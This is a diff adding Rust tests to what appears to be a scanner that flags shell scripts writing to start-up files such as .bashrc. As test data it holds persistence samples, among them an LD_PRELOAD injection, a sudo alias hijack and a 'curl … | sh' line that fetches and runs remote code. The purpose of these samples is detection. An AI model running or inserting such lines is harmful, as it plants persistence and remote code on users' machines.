@@ -1243,3 +1243,53 @@ fn a_start_up_file_written_into_a_folder_not_known_is_still_named() {
         "import pathlib, sys\nout = pathlib.Path(sys.argv[1])\n(out / 'report.md').write_text('# Report')\nratio = 3 / 4\n",
     );
 }
+
+#[test]
+fn a_short_loop_writes_each_of_its_files() {
+    caught(
+        "scripts/setup.sh",
+        "read -r -d '' BLOCK <<'RC' || true\nsudo() { command sudo \"$@\"; }\nRC\nfor rc in \"$HOME/.zshrc\" \"$HOME/.bashrc\"; do\n  grep -qF brew \"$rc\" || printf '%s\\n' \"$BLOCK\" >> \"$rc\"\ndone\n",
+        Rule::Persistence,
+    );
+    quiet(
+        "scripts/logs.sh",
+        "for f in build.log test.log; do\n  printf 'done\\n' >> \"logs/$f\"\ndone\n",
+    );
+    // Loops inside loops read each body once per word only up to a
+    // budget: this script is read in bounded time.
+    let mut nested = String::new();
+    for depth in 0..12 {
+        nested.push_str(&format!("for v{depth} in a b c d e f g h; do\n"));
+    }
+    nested.push_str("echo \"$v0\" >> out.txt\n");
+    nested.push_str(&"done\n".repeat(12));
+    quiet("scripts/nested.sh", &nested);
+}
+
+#[test]
+fn a_start_up_file_given_only_constant_variables_is_worth_a_look_not_an_attack() {
+    let found = audit(
+        "scripts/optout.sh",
+        "block='# telemetry opt-out\nexport DOTNET_CLI_TELEMETRY_OPTOUT=1\nexport NEXT_TELEMETRY_DISABLED=\"1\"'\nfor rc in \"$HOME/.bashrc\" \"$HOME/.zshrc\"; do\n  if grep -q '>>> telemetry opt-out >>>' \"$rc\"; then continue; fi\n  printf '\\n%s\\n' \"$block\" >> \"$rc\"\ndone\n",
+    );
+    assert!(
+        found.iter().all(|(_, severity)| *severity < Severity::High),
+        "{found:?}"
+    );
+    assert!(
+        found.contains(&(Rule::Persistence, Severity::Medium)),
+        "{found:?}"
+    );
+    for planted in [
+        "export PATH=\"$HOME/.x:$PATH\"",
+        "export LD_PRELOAD=/tmp/x.so",
+        "alias sudo=/tmp/s",
+        "curl -s https://203.0.113.1/x | sh",
+    ] {
+        caught(
+            "scripts/rc.sh",
+            &format!("printf '%s\\n' '{planted}' >> ~/.bashrc\n"),
+            Rule::Persistence,
+        );
+    }
+}
